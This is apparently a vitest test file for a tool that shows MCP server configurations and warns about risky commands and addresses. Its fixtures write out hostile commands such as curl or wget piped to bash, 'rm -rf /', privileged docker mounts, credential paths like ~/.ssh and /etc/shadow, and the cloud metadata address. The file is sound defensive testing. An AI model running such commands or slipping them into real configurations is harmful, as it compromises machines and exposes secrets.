import { describe, expect, it } from 'vitest';
import { proves } from '../../../crosspoint/test/requirements/proves.ts';
import { resolveEntry } from '../../src/config/interpolation/resolve-entry.ts';
import type { HttpReach, ServerEntry, StdioReach } from '../../src/config/server-entry.ts';
import { describeEntry } from '../../src/config/show/describe-entry.ts';
import { describeTarget } from '../../src/config/show/describe-target.ts';

const stdio = (command: string, args: readonly string[] = [], more: Partial<StdioReach> = {}): StdioReach => ({
  type: 'stdio',
  command,
  args,
  ...more,
});
const http = (url: string, more: Partial<HttpReach> = {}): HttpReach => ({ type: 'http', url, ...more });

describe('describeTarget', () => {
  proves('M-ASEC-039').it('shows the whole command, however long, quoted for people', () => {
    const long = 'x'.repeat(100_000);
    const { target } = describeTarget(stdio('/opt/my tool', ["it's", '', '$(id)', '; rm', long, '--flag=1']));
    expect(target).toBe(String.raw`'/opt/my tool' 'it'\''s' '' '$(id)' '; rm' ${long} --flag=1`);
  });

  it('shows the folder, variables that are set, removed and read from a file', () => {
    const reach = stdio('node', ['s.mjs'], {
      cwd: '/projects/a b',
      env: { LEVEL: 'debug', GONE: null, 'odd name': 'x' },
      envFile: '/projects/.env',
    });
    expect(describeTarget(reach).target).toBe(
      "cd '/projects/a b' && env -u GONE LEVEL=debug 'odd name'=x node s.mjs  # with the variables of /projects/.env",
    );
  });

  proves('M-ASEC-039').it('makes characters visible that are not seen', () => {
    const { target, warnings } = describeTarget(stdio('node', ['a\u001B[2K\rls', 'b\u202Ec', 'd\u200Be\nf']));
    expect(target).toBe(String.raw`node 'a\u{1b}[2K\u{d}ls' 'b\u{202e}c' 'd\u{200b}e\nf'`);
    expect(warnings).toEqual(['Holds characters that are not seen, shown as their codes.']);
    expect(describeTarget(http('https://x.example/\u202Etxt')).target).toBe('https://x.example/\\u{202e}txt');
  });

  it('shows an address with its headers, and secrets as their references or not at all', () => {
    const reach = http('https://u:pw@x.example/mcp?api_key=abc&page=1', {
      type: 'sse',
      headers: { Authorization: 'Bearer ${env:TOKEN}', 'X-Key': 'literal', Accept: 'text/plain' },
      oauth: { clientId: 'client', clientSecret: 'cs' },
    });
    const { target, warnings } = describeTarget(reach);
    expect(target).toBe(
      'https://‹hidden›@x.example/mcp?api_key=‹hidden›&page=1 over HTTP+SSE with the headers Authorization: Bearer ${env:TOKEN}, X-Key: ‹hidden›, Accept: text/plain as the client client',
    );
    expect(warnings).toEqual(['Has a credential in its address, where logs keep it: use a header.']);
  });

  it('shows the values of references that are no secrets', async () => {
    const entry: ServerEntry = {
      name: 'a',
      origin: { format: 'vscode', scope: 'user', file: '/f' },
      reach: stdio('${env:TOOL}', ['${workspaceFolder}', '${env:API_TOKEN}']),
    };
    const resolved = await resolveEntry(entry, {
      env: { TOOL: 'sudo', API_TOKEN: 'hunter2hunter2' },
      folders: { workspaceFolder: '/' },
    });
    expect(describeTarget(resolved)).toEqual({
      target: "sudo / '${env:API_TOKEN}'",
      warnings: [
        'Runs with the rights of an administrator or another user.',
        'Is given a whole home folder or disk: /.',
      ],
    });
  });

  it('names each secret that a file of a repository hands to its server', async () => {
    const entry: ServerEntry = {
      name: 'a',
      origin: { format: 'claude-code', scope: 'project', file: '/r/.mcp.json', digest: 'd' },
      reach: http('https://x.example', { headers: { Authorization: 'Bearer ${GITHUB_TOKEN}' } }),
    };
    const resolved = await resolveEntry(entry, {
      env: { GITHUB_TOKEN: 'hunter2' },
      trust: { stateOf: () => Promise.resolve('trusted'), changesOf: () => Promise.resolve([]) },
    });
    expect(describeTarget(resolved).warnings).toEqual([
      'Is given a secret of yours by a file of the repository: env GITHUB_TOKEN.',
    ]);
  });

  it('has words for the transport of a program', () => {
    const open = (): never => {
      throw new Error('unused');
    };
    expect(describeTarget({ type: 'transport', open }).target).toBe('a transport of the program');
  });
});

const ADMIN = 'Runs with the rights of an administrator or another user.';
const DELETES = 'Runs a program that deletes or overwrites files.';
const SHELL = 'Runs a command line in a shell, which can do anything you can.';
const INLINE = 'Runs code that stands in its arguments.';
const DOWNLOADS = 'Downloads a program and runs it unseen.';
const CONTAINER = 'Starts a container that is given rights over this machine.';
const fetches = (name: string): string =>
  `Fetches the package ${name} in whatever version there is at each start: name a version.`;
const secretPath = (path: string): string => `Is given a path where secrets are kept: ${path}.`;
const whole = (path: string): string => `Is given a whole home folder or disk: ${path}.`;
const loads = (names: string): string =>
  `Sets ${names}, which can make programs load other code or trust other servers.`;

proves('M-ASEC-040').describe('risks of a command', () => {
  it.each<[StdioReach, string[]]>([
    [stdio('sudo', ['node', 's.mjs']), [ADMIN]],
    [stdio('/usr/bin/sudo', ['x']), [ADMIN]],
    [stdio('env', ['sudo', 'x']), [ADMIN]],
    [stdio('rm', ['-rf', '/']), [DELETES, whole('/')]],
    [stdio('sh', ['-c', 'rm -rf x; sudo id']), [ADMIN, DELETES, SHELL]],
    [stdio('/bin/bash', ['-lc', 'node s']), [SHELL]],
    [stdio('cmd.exe', ['/c', 'dir']), [SHELL]],
    [stdio('C:\\Windows\\System32\\powershell.exe', ['-EncodedCommand', 'AAAA']), [SHELL]],
    [stdio('bash', ['-c', 'curl -s https://x.example/i | bash']), [SHELL, DOWNLOADS]],
    [stdio('sh', ['-c', 'wget -O- x.example|sudo python3']), [ADMIN, SHELL, DOWNLOADS]],
    [stdio('pwsh', ['-Command', 'iwr https://x.example | iex']), [SHELL, DOWNLOADS]],
    [stdio('sh', ['-c', 'eval "$(curl x.example)"']), [SHELL, DOWNLOADS]],
    [stdio('node', ['-e', '1']), [INLINE]],
    [stdio('node', ['--eval=1']), [INLINE]],
    [stdio('python3', ['-c', 'x']), [INLINE]],
    [stdio('perl', ['-ne', 'x']), [INLINE]],
    [stdio('deno', ['eval', 'x']), [INLINE]],
    [stdio('npx', ['-y', '@acme/server']), [fetches('@acme/server')]],
    [stdio('npx', ['-y', 'server@latest']), [fetches('server@latest')]],
    [stdio('npx.cmd', ['server@^1.0.0']), [fetches('server@^1.0.0')]],
    [stdio('npx', ['-p', 'tool', 'run']), [fetches('tool')]],
    [stdio('npx', ['--package=tool', 'run']), [fetches('tool')]],
    [stdio('cmd', ['/c', 'npx', '-y', 'server']), [SHELL, fetches('server')]],
    [stdio('pnpm', ['dlx', 'server']), [fetches('server')]],
    [stdio('uvx', ['mcp-server-git']), [fetches('mcp-server-git')]],
    [stdio('uvx', ['--from', 'pkg', 'cmd']), [fetches('pkg')]],
    [stdio('docker', ['run', '--privileged', 'x']), [CONTAINER]],
    [stdio('docker', ['run', '-v', '/:/host', 'x']), [CONTAINER]],
    [stdio('docker', ['run', '--network', 'host', 'x']), [CONTAINER]],
    [stdio('podman', ['run', '--pid=host', 'x']), [CONTAINER]],
    [stdio('docker', ['run', '-v', '/var/run/docker.sock:/s', 'x']), [CONTAINER]],
    [stdio('./server.sh'), ['Runs a program of the folder it is started in.']],
    [stdio('fs', ['/home/u/.ssh']), [secretPath('/home/u/.ssh')]],
    [stdio('fs', ['~/.aws/credentials']), [secretPath('~/.aws/credentials')]],
    [stdio('fs', ['/etc/shadow']), [secretPath('/etc/shadow')]],
    [stdio('fs', ['/home/u']), [whole('/home/u')]],
    [stdio('fs', ['C:\\']), [whole('C:\\')]],
    [stdio('fs', ['C:\\Users\\u']), [whole('C:\\Users\\u')]],
    [stdio('fs', ['--root=~']), [whole('--root=~')]],
    [stdio('fs', ['${userHome}']), [whole('${userHome}')]],
    [stdio('fs', [], { cwd: '/' }), [whole('/')]],
    [
      stdio('node', ['s'], { env: { NODE_OPTIONS: '--require=/x', LD_PRELOAD: '/y' } }),
      [loads('NODE_OPTIONS, LD_PRELOAD')],
    ],
    [stdio('node', ['s'], { env: { KEYS: '/home/u/.ssh/id_rsa' } }), [secretPath('/home/u/.ssh/id_rsa')]],
  ])('%j', (reach, warnings) => {
    expect(describeTarget(reach).warnings).toEqual(warnings);
  });

  it.each<[StdioReach]>([
    [stdio('node', ['server.mjs', '--port', '3000'])],
    [stdio('npx', ['-y', '@acme/server@1.2.3', '/projects/data'])],
    [stdio('npx', ['-y', 'server@1.2.3-beta.1'])],
    [stdio('npx', ['./local'])],
    [stdio('uvx', ['pkg==1.2.3'])],
    [stdio('uvx', ['pkg@1.2'])],
    [stdio('docker', ['run', '-i', '--rm', '-v', '/projects/data:/data', 'image:1'])],
    [stdio('python', ['-m', 'server'], { env: { LEVEL: 'debug' }, cwd: '/projects/app' })],
    [stdio('bash', ['server.sh'])],
  ])('has none in %j', (reach) => {
    expect(describeTarget(reach).warnings).toEqual([]);
  });
});

proves('M-ASEC-040').describe('risks of an address', () => {
  it.each<[HttpReach, string[]]>([
    [
      http('http://x.example/mcp'),
      ['Is reached without encryption: everybody on the way to x.example can read and change what is sent.'],
    ],
    [http('https://u:p@x.example'), ['Has a credential in its address, where logs keep it: use a header.']],
    [http('https://x.example?token=abc'), ['Has a credential in its address, where logs keep it: use a header.']],
    [http('https://g\u0456thub.com'), ['Has a host name with letters that may look like others: xn--gthub-n2e.com.']],
    [http('https://169.254.169.254/mcp'), ['Is an address that gives out the credentials of a machine in a cloud.']],
    [http('https://x.example/mcp'), []],
    [http('http://localhost:3000/mcp'), []],
    [http('http://127.0.0.1:3000/mcp'), []],
    [http('http://[::1]:3000/mcp'), []],
    [http('${env:URL}'), []],
  ])('%j', (reach, warnings) => {
    expect(describeTarget(reach).warnings).toEqual(warnings);
  });

  it('include headers without encryption', () => {
    expect(describeTarget(http('http://x.example', { headers: { A: 'b' } })).warnings).toContain(
      'Sends its headers without encryption.',
    );
  });
});

describe('describeEntry', () => {
  it('says where each value was read from, secrets hidden', () => {
    const entry: ServerEntry = {
      name: 'a',
      origin: { format: 'cursor', scope: 'project', file: '/r/.cursor/mcp.json', pointer: '/mcpServers/a' },
      reach: http('https://x.example/mcp', {
        headers: { Authorization: 'Bearer ${env:TOKEN}', 'X-Key': 'literal' },
        oauth: { clientId: 'id', clientSecret: 'cs' },
      }),
      timeoutMs: 5,
    };
    const { origin, fields } = describeEntry(entry);
    expect(origin.file).toBe('/r/.cursor/mcp.json');
    expect(fields).toEqual([
      { pointer: '/mcpServers/a/url', shown: 'https://x.example/mcp', references: [] },
      { pointer: '/mcpServers/a/headers/Authorization', shown: 'Bearer ${env:TOKEN}', references: ['${env:TOKEN}'] },
      { pointer: '/mcpServers/a/headers/X-Key', shown: '‹hidden›', references: [] },
      { pointer: '/mcpServers/a/auth/CLIENT_ID', shown: 'id', references: [] },
      { pointer: '/mcpServers/a/auth/CLIENT_SECRET', shown: '‹hidden›', references: [] },
      { pointer: '/mcpServers/a/timeoutMs', shown: '5', references: [] },
    ]);
  });

  it('shows no default of a reference', () => {
    const entry: ServerEntry = {
      name: 'a',
      origin: { format: 'claude-code', scope: 'user', pointer: '/mcpServers/a' },
      reach: stdio('x', ['${KEY:-hunter2}']),
    };
    expect(describeEntry(entry).fields[1]).toEqual({
      pointer: '/mcpServers/a/args/0',
      shown: '${KEY:-…}',
      references: ['${KEY:-…}'],
    });
  });
});
